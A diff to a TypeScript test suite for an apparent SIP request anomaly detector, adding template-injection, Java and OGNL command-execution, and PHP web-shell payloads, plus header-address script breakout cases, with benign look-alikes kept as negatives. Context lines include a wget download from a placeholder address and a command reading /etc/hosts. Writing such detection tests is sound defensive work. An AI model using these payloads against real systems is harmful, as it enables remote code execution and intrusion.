@@ -19,6 +19,12 @@ const attacks: readonly (readonly [string, AnomalyCode])[] = [
   ['%3Cscript%3Ealert(1)', 'script-injection'],
   ['<IMG SRC=x onerror=alert(1)>', 'script-injection'],
   ['<svg/onload=alert(1)>', 'script-injection'],
+  ['<?php system($_GET[0]);?>', 'script-injection'],
+  ['{{7*7}}', 'script-injection'],
+  ['\x24{7*7}', 'script-injection'],
+  ["{{''.__class__.__mro__}}", 'script-injection'],
+  ['\x24{T(java.lang.Runtime).getRuntime().exec("id")}', 'script-injection'],
+  ['%{(#a=@java.lang.Runtime@getRuntime())}', 'script-injection'],
   ['$(id)', 'shell-injection'],
   ['$(wget http://198.51.100.1/x)', 'shell-injection'],
   ['`cat /etc/hosts`', 'shell-injection'],
@@ -56,6 +62,15 @@ describe('an injection string is found wherever it stands', () => {
   }
 });
 
+test('a tag that breaks out of an address is found, also where no byte but its brackets tells of it', () => {
+  for (const header of ['From', 'To', 'Contact'])
+    for (const address of [
+      '<sip:"><img src=x onerror=alert(1)>@a>;tag=1',
+      '"><img src=x onerror=alert(1)> <sip:7@a>;tag=1',
+    ])
+      assert.ok(parsed(request({ [header]: address })).codes.includes('script-injection'), `${header} ${address}`);
+});
+
 test('SQL in the user name of credentials is found', () => {
   for (const name of ["admin' or 1=1 --", 'a\\" or \\"1\\"=\\"1'])
     assert.ok(
@@ -79,6 +94,8 @@ const honest = [
   '$5 or 10$',
   'cost: $(5)',
   '\x24{EXTEN}',
+  '{{extension}} %{user} #{name}',
+  'java.lang.RuntimeException: 7*7',
   '\x24{lowest} of \x24{:all}',
   'in $, {::-) or {lower:}',
   'John `Jack` Smith',
